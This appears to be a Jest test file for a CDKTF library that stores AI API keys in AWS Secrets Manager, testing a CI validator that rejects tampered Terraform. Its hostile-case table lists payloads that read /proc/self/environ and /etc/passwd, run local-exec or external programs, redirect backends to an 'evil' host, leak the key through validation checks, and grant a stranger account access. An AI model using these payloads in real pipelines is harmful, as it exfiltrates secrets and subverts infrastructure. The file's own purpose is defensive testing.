import { App, TerraformStack } from "cdktf";
import { CHECKS, codeOf, digestOf, problemsOf, TYPES } from "../../../.ci/accept.js";
import { AiKeyStack, type AiKeyStackProps, EphemeralVariable } from "../../../lib";
import { PROVIDER_CALLS } from "../../../lib/team/provider-calls";
import { KEY_KINDS } from "../../support/key-kinds";
import { synthesized } from "../../support/synthesized";

const ACCOUNT = "111122223333";
const DECLARED = { bucket: "states", account: ACCOUNT };
const arn = (service: string, resource: string) => `arn:aws:${service}:us-east-1:${ACCOUNT}:${resource}`;
const adoptable = (name: string) => arn("secretsmanager", `secret:${name}-a1B2c3`);
const STATE = { bucket: "states", key: "a/b", region: "us-east-1", kmsKeyArn: arn("kms", "key/1234abcd-12ab-34cd-a6ef-1234567890ab") };

const stackWith = (props: AiKeyStackProps = {}) =>
  synthesized(new AiKeyStack(new App({ outdir: "never-written" }), "ai-secret", { region: "us-east-1", state: STATE, ...props }));

/** With every kind of resource that a stack can have. */
const WHOLE: AiKeyStackProps = {
  keys: [
    { replicas: [{ region: "eu-west-1" }], forceOverwriteReplicaSecret: true, tags: { Team: "search" } },
    {
      provider: "openai",
      readers: [`arn:aws:iam::${ACCOUNT}:role/app`],
      policyStatements: [
        {
          sid: "DenyFromElsewhere",
          effect: "Deny",
          actions: ["secretsmanager:GetSecretValue"],
          condition: [{ test: "StringNotEquals", variable: "aws:SourceVpce", values: ["vpce-1a2b3c4d"] }],
        },
      ],
      encryptionKey: "customer-managed",
      publishArnTo: "/ai/openai-secret-arn",
      body: { endpoint: "https://api.openai.com/v1" },
      alarmTopicArn: arn("sns", "alarms"),
      rotation: {
        function: { lambdaArn: arn("lambda", "function:rotate"), roleArn: `arn:aws:iam::${ACCOUNT}:role/rotate` },
        everyDays: 30,
      },
    },
    {
      provider: "litellm",
      body: { keys: { GROQ_API_KEY: { provider: "groq" }, "mistral-key": { provider: "mistral" } }, fields: { note: 'a "b"' } },
    },
  ],
};

/** With all that a lost state leaves. */
const ADOPTING: AiKeyStackProps = {
  keys: [
    {
      adoptSecretArn: adoptable("first"),
      encryptionKey: "customer-managed",
      adoptEncryptionKeyArn: arn("kms", "key/1234abcd-12ab-34cd-a6ef-1234567890ab"),
      publishArnTo: "/ai/secret-arn",
      format: "json",
    },
    {
      provider: "openai",
      adoptSecretArn: adoptable("second"),
      readers: [`arn:aws:iam::${ACCOUNT}:role/app`],
    },
  ],
};

const OPENAI = { projectId: "proj_abc", serviceAccountId: "user-abc" };

test.each([
  ["as it is shipped", {}],
  ["with every option", WHOLE],
  ["that adopts", ADOPTING],
  ["with a key that the provider makes", { keys: [{ provider: "openai", readers: [], rotation: { openai: OPENAI, everyDays: 30 } }] }],
])("a stack %s is taken as it is", (_, props) => {
  expect(problemsOf(stackWith(props), DECLARED)).toEqual([]);
});

test("the types are those whose rights the roles know", () => {
  const rows = Object.keys(PROVIDER_CALLS).sort();
  expect([...TYPES.resource, ...TYPES.data.map((type) => `data.${type}`)].sort()).toEqual(rows);
});

test("the checks of a key are those of the library, for each kind of key", () => {
  const digests = KEY_KINDS.map((kind) => {
    const stack = new TerraformStack(new App({ outdir: "never-written" }), "stack");
    new EphemeralVariable(stack, "the_key", kind);
    const { variable, check = {} } = synthesized(stack);
    const warnings = Object.values<{ assert: { condition: string }[] }>(check).flatMap(({ assert }) => assert);
    return digestOf("the_key", [...variable.the_key.validation, ...warnings]);
  });
  expect(CHECKS).toEqual([...new Set(digests)]);
});

const SECRET = "${aws_secretsmanager_secret.ai-key_secret_A9E5E561.arn}";
const STRANGER = "999988887777";
const KEY = "${var.ai_api_key}";
const open = (principals: object) => ({
  data: {
    aws_iam_policy_document: { mine: { statement: [{ effect: "Allow", actions: ["*"], resources: ["*"], principals: [principals] }] } },
  },
});

/** What the code of a package could write into the stack, each with what is said of it. */
const HOSTILE: readonly (readonly [what: string, change: object, problem: string])[] = [
  ["a module", { module: { m: { source: "github.com/evil/m" } } }, 'the stack must not have "module"'],
  [
    "a provisioner",
    { resource: { aws_iam_policy: { p: { provisioner: { "local-exec": { command: "env" } } } } } },
    "must not have a provisioner",
  ],
  ["a connection", { resource: { aws_iam_policy: { p: { connection: { host: "evil" } } } } }, "must not have a connection"],
  ["another provider", { provider: { http: [{}] } }, 'provider must not have "http"'],
  [
    "a provider of another source",
    { terraform: { required_providers: { aws: { source: "evil/aws" } } } },
    'must be hashicorp/aws; got "evil/aws"',
  ],
  ["one more provider", { terraform: { required_providers: { external: { source: "hashicorp/external" } } } }, 'must not have "external"'],
  ["a type that runs programs", { data: { external: { e: { program: ["sh"] } } } }, "data.external is no type that this stack needs"],
  ["a type that keeps values", { resource: { terraform_data: { t: { input: 1 } } } }, "resource.terraform_data is no type"],
  ["an ephemeral resource", { ephemeral: { aws_secretsmanager_secret_version: { v: { secret_id: "x" } } } }, 'must not have "ephemeral"'],
  [
    "AWS at another address",
    { provider: { aws: [{ endpoints: [{ secretsmanager: "https://evil" }] }] } },
    'provider.aws must not have "endpoints"',
  ],
  ["credentials by a program", { provider: { aws: [{ shared_config_files: ["/tmp/c"] }] } }, 'must not have "shared_config_files"'],
  [
    "a program of OpenTofu's encryption",
    { terraform: { encryption: { key_provider: { external: {} } } } },
    'terraform must not have "encryption"',
  ],
  ["a state of HCP Terraform", { terraform: { cloud: { organization: "evil" } } }, 'terraform must not have "cloud"'],
  ["another backend", { terraform: { backend: { http: { address: "https://evil" } } } }, 'terraform.backend must not have "http"'],
  ["another bucket", { terraform: { backend: { s3: { bucket: "evil" } } } }, 'must have the bucket of STATE_BUCKET, "states"; got "evil"'],
  [
    "a bucket elsewhere",
    { terraform: { backend: { s3: { endpoints: { s3: "https://evil" } } } } },
    'terraform.backend.s3 must not have "endpoints"',
  ],
  [
    "a check that tells a letter of the key",
    { check: { mine: { assert: [{ condition: '${startswith(var.ai_api_key, "s")}', error_message: "no" }] } } },
    "variable.ai_api_key must have the checks of this library",
  ],
  ["a check with a look-up of its own", { check: { mine: { data: { http: { d: {} } } } } }, 'a check must not have "data"'],
  ["a key that is kept", { variable: { ai_api_key: { ephemeral: false } } }, "variable.ai_api_key must be ephemeral and sensitive"],
  ["a variable that would take one", { variable: { copy: { type: "string" } } }, "variable.copy must be ephemeral and sensitive"],
  ["a variable that is a command", { variable: { "x;env": { type: "number" } } }, 'variable."x;env" must have a name of letters'],
  [
    "checks that tell the key letter by letter",
    {
      variable: {
        ai_api_key: { validation: [{ condition: '${substr(var.ai_api_key, 3, 1) != "a"}', error_message: "the fourth is an a" }] },
      },
    },
    "variable.ai_api_key must have the checks of this library",
  ],
  ["the key in an output", { output: { o: { value: "${base64encode(var.ai_api_key)}" } } }, "output.o.value must not have ai_api_key"],
  ["the key as a name", { locals: { l: { [KEY]: 1 } } }, "locals.l, a name must not have ai_api_key"],
  [
    "the key in another place",
    { resource: { aws_ssm_parameter: { p: { value_wo: KEY } } } },
    "resource.aws_ssm_parameter.p.value_wo must not have ai_api_key",
  ],
  [
    "the key with what this job has",
    { resource: { aws_secretsmanager_secret_version: { v: { secret_string_wo: '${file("/proc/self/environ")}' } } } },
    "secret_string_wo must be a key, or JSON with a key",
  ],
  [
    "a file of this machine",
    { output: { o: { value: '${filebase64("/proc/self/environ")}' } } },
    "output.o.value must not call filebase64",
  ],
  ["one within a text", { output: { o: { value: '${lower("${file ("/etc/passwd")}")}' } } }, "must not call file"],
  ["one behind a comment", { output: { o: { value: '${file/* lower */("/etc/passwd")}' } } }, "must have no comment"],
  ["one behind a comment in a line", { output: { o: { value: '${file # lower\n("/etc/passwd")}' } } }, "must have no comment"],
  ["one in a directive", { output: { o: { value: '%{ if fileexists("/etc/passwd") }a%{ endif }' } } }, "must not call fileexists"],
  ["a function of a provider", { output: { o: { value: '${provider::evil::send("a")}' } } }, "must not call provider::evil::send"],
  ["what is shown that is hidden", { output: { o: { value: "${nonsensitive(1)}" } } }, "must not call nonsensitive"],
  [
    "a policy in JSON",
    { resource: { aws_secretsmanager_secret_policy: { p: { policy: '{"Statement":[]}', secret_arn: SECRET } } } },
    "must have as policy a policy of the stack",
  ],
  ["a stranger", open({ type: "AWS", identifiers: [`arn:aws:iam::${STRANGER}:root`] }), `got "arn:aws:iam::${STRANGER}:root"`],
  ["a stranger's number", open({ type: "AWS", identifiers: STRANGER }), `got "${STRANGER}"`],
  ["a stranger who is computed", open({ type: "AWS", identifiers: ['${join("", ["9999", "88887777"])}'] }), "must let in nobody but"],
  ["everybody", open({ type: "*", identifiers: ["*"] }), "must let in nobody but"],
  [
    "a stranger whom a loop makes",
    { data: { aws_iam_policy_document: { mine: { dynamic: { statement: { for_each: [1], content: {} } } } } } },
    'data.aws_iam_policy_document must not have "dynamic"',
  ],
  ["two blocks in place of one", { resource: { aws_iam_policy: { p: [{}, {}] } } }, "resource.aws_iam_policy.p must be one block"],
];

test("a message of another wording is taken, but none that computes with what this job has", () => {
  const saying = (error_message: string) => {
    const stack = stackWith();
    const [first, ...others] = stack.variable.ai_api_key.validation;
    stack.variable.ai_api_key.validation = [{ ...first, error_message }, ...others];
    return problemsOf(stack, DECLARED);
  };
  expect(saying("Store ai_api_key first.")).toEqual([]);
  expect(saying('${file("/proc/self/environ")}')).toEqual(["variable.ai_api_key.validation[0].error_message must not call file"]);
  expect(saying("${var.ai_api_key}")).toEqual([expect.stringContaining("must not have ai_api_key")]);
});

test.each(HOSTILE)("%s is refused", (_, change, problem) => {
  expect(problemsOf(merged(stackWith(), change), DECLARED)).toContainEqual(expect.stringContaining(problem));
});

test("a local state is refused with what to do, and a text that is no block without a stack trace", () => {
  const { terraform, ...stack } = stackWith();
  const local = { ...stack, terraform: { ...terraform, backend: { local: { path: "x" } } } };
  expect(problemsOf(local, DECLARED)).toEqual([expect.stringContaining("a local one is lost with this job. docs/setup.md")]);
  expect(problemsOf("a text", DECLARED)).toContain("the stack must be one block");
});

test("the code of a template is all that Terraform runs, and nothing that it prints", () => {
  expect(codeOf('a (b) ${lower("c(${upper(var.d)})")} e(')?.replace(/\s+/g, " ")).toBe(" lower( upper(var.d) ) ");
  expect(codeOf('${replace(x, "/[^\\"({]/", "$1")}')?.trim()).toMatch(/^replace\(x, +, +\)$/);
  for (const unsure of ["$${a}", "%%{a}", '${"\\${a}"}', "${<<E\nE\n}", "${a"]) {
    expect(codeOf(unsure)).toBeUndefined();
  }
});

function merged(base: unknown, change: unknown): unknown {
  if (!isObject(base) || !isObject(change)) {
    return change;
  }
  return { ...base, ...Object.fromEntries(Object.entries(change).map(([name, value]) => [name, merged(base[name], value)])) };
}

function isObject(value: unknown): value is Record<string, unknown> {
  return typeof value === "object" && value !== null && !Array.isArray(value);
}
